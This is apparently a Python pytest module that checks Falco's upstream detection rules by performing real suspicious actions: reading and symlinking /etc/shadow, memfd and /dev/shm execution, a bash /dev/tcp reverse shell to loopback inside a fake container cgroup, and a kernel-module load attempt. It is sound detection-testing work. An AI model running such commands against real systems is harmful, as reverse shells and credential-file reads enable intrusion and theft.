"""`pyfalco` live with the upstream stable rules (falcosecurity/rules falco_rules.yaml,
unmodified): real actions on this machine must raise the upstream alerts with our field values.

The rules file comes from $PYFALCO_UPSTREAM_RULES or the shared upstream checkout
(/work/upstream/rules); without one the module skips."""
from __future__ import annotations

import json
import os
import secrets
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from tests.drivers.conftest import requires_bpf
from tests.drivers.live import MEMCG, by_rule, in_cgroup, loopback_listener, run_pyfalco

pytestmark = [pytest.mark.bpf, pytest.mark.root, pytest.mark.slow, requires_bpf]

MARK = f"pfdef{os.getpid()}"


def _rules_file() -> Path | None:
    for cand in (os.environ.get("PYFALCO_UPSTREAM_RULES"),
                 "/work/upstream/rules/falco_rules.yaml"):
        if cand and Path(cand).is_file():
            return Path(cand)
    return None


RUNC = shutil.which("runc")
RULES = (*(("Terminal shell in container",) if RUNC else ()),
         "Read sensitive file untrusted", "Create Symlink Over Sensitive Files",
         "Fileless execution via memfd_create", "Execution from /dev/shm",
         "Redirect STDOUT/STDIN to Network Connection in Container",
         "Linux Kernel Module Injection Detected")


def _runc_bundle(tmp: Path, cid: str) -> Path:
    """An OCI bundle whose rootfs is the host's /usr (read-only bind) and whose process is an
    interactive bash; its cgroups are laid out like docker's, /docker/<id>."""
    b = tmp / "bundle"
    root = b / "rootfs"
    for d in ("usr", "proc", "dev", "tmp", "etc"):
        (root / d).mkdir(parents=True)
    for link, target in (("bin", "usr/bin"), ("lib", "usr/lib"), ("lib64", "usr/lib64"),
                         ("sbin", "usr/sbin")):
        (root / link).symlink_to(target)
    subprocess.run([RUNC, "spec"], cwd=b, check=True)
    cfg = json.loads((b / "config.json").read_text())
    cfg["process"]["args"] = ["bash", "-c", f"true {MARK}-runc"]
    cfg["process"]["terminal"] = True
    cfg["root"] = {"path": "rootfs", "readonly": True}
    cfg["mounts"].append({"destination": "/usr", "type": "bind", "source": "/usr",
                          "options": ["rbind", "ro"]})
    cfg["linux"]["cgroupsPath"] = f"/docker/{cid}"
    (b / "config.json").write_text(json.dumps(cfg))
    return b


def _actions(tmp: Path, port: int, docker_id: str) -> None:
    if RUNC:
        # a real container: runc with a terminal (script gives it a pty)
        bundle = _runc_bundle(tmp, docker_id)
        subprocess.run(["script", "-qec", f"{RUNC} run -b {bundle} {MARK}", "/dev/null"],
                       stdout=subprocess.DEVNULL, check=True, timeout=30)
    subprocess.run(["cat", "/etc/shadow"], stdout=subprocess.DEVNULL, check=True)
    subprocess.run(["ln", "-s", "/etc/shadow", str(tmp / f"{MARK}-link")], check=True)
    with open(os.path.realpath("/bin/true"), "rb") as f:
        image = f.read()
    fd = os.memfd_create(f"{MARK}-memfd", 0)
    os.write(fd, image)
    subprocess.run([f"/proc/self/fd/{fd}", f"{MARK}-memfd"], pass_fds=(fd,), check=True)
    os.close(fd)
    shm = Path(f"/dev/shm/{MARK}-true")
    shutil.copy(os.path.realpath("/bin/true"), shm)
    try:
        subprocess.run([str(shm)], check=True)
    finally:
        shm.unlink()
    cg = MEMCG / "docker" / docker_id
    # inside the "container": a bash reverse shell (dup2 of a TCP socket onto 0/1/2) ...
    in_cgroup(cg, ["bash", "-c",
                   f"bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1 <&- & sleep 0.5; kill %1"],
              stderr=subprocess.DEVNULL, timeout=15)
    # ... and a kernel module load attempt (rejected by the kernel, still an injection attempt)
    in_cgroup(cg, [sys.executable, "-c",
                   "import ctypes; ctypes.CDLL(None).syscall(313, -1, b'', 0)"], timeout=15)


@pytest.fixture(scope="module")
def run(tmp_path_factory):
    rules = _rules_file()
    if rules is None:
        pytest.skip("no upstream falco_rules.yaml (set PYFALCO_UPSTREAM_RULES)")
    if not MEMCG.exists() or not os.access(MEMCG, os.W_OK):
        pytest.skip("cgroup v1 memory hierarchy not writable")
    tmp = tmp_path_factory.mktemp("defrules")
    listener, port = loopback_listener()
    docker_id = secrets.token_hex(32)
    try:
        alerts, log = run_pyfalco(rules, lambda: _actions(tmp, port, docker_id), RULES)
    finally:
        listener.close()
    return {"alerts": alerts, "log": log, "docker": docker_id, "port": port}


def _fields(run, rule, pred=lambda f: True):
    hits = [a["output_fields"] for a in by_rule(run["alerts"], run["log"], rule)]
    mine = [f for f in hits if pred(f)]
    assert mine, f"{rule}: no alert of ours among {hits}"
    return mine[0]


@pytest.mark.skipif(RUNC is None, reason="runc not installed")
def test_terminal_shell_in_runc_container(run):
    f = _fields(run, "Terminal shell in container",
                lambda f: f.get("container.id") == run["docker"][:12])
    assert f["proc.name"] == "bash" and f["user.name"] == "root"
    assert int(f["proc.tty"]) != 0
    # The shell's parent (runc:[1:CHILD]) exits and runc, a child subreaper, adopts it;
    # until sinsp applies procexit's reaper_tid the parent name is unknown (the rule's
    # container_entrypoint accepts both).
    assert f["proc.pname"] in ("runc", None)


def test_read_sensitive_file_untrusted(run):
    f = _fields(run, "Read sensitive file untrusted", lambda f: f.get("proc.name") == "cat")
    assert f["fd.name"] == "/etc/shadow" and f["user.name"] == "root"
    assert f["container.id"] == "host"


def test_symlink_over_sensitive_file(run):
    f = _fields(run, "Create Symlink Over Sensitive Files",
                lambda f: MARK in str(f.get("evt.arg.linkpath", "")))
    assert f["evt.arg.target"] == "/etc/shadow" and f["proc.name"] == "ln"


def test_fileless_execution_via_memfd(run):
    f = _fields(run, "Fileless execution via memfd_create",
                lambda f: MARK in str(f.get("proc.cmdline", "")))
    assert f["user.name"] == "root"


def test_execution_from_dev_shm(run):
    f = _fields(run, "Execution from /dev/shm", lambda f: MARK in str(f.get("proc.exepath", "")))
    assert f["proc.exepath"] == f"/dev/shm/{MARK}-true"


def test_reverse_shell_in_container(run):
    f = _fields(run, "Redirect STDOUT/STDIN to Network Connection in Container",
                lambda f: f.get("container.id") == run["docker"][:12])
    assert f["proc.name"] == "bash" and f["fd.sip"] == "127.0.0.1"
    assert f["fd.name"].endswith(f"->127.0.0.1:{run['port']}")
    assert f["fd.type"] == "ipv4"


def test_kernel_module_injection_from_container(run):
    f = _fields(run, "Linux Kernel Module Injection Detected",
                lambda f: f.get("container.id") == run["docker"][:12])
    assert f["evt.type"] == "finit_module" and f["user.name"] == "root"
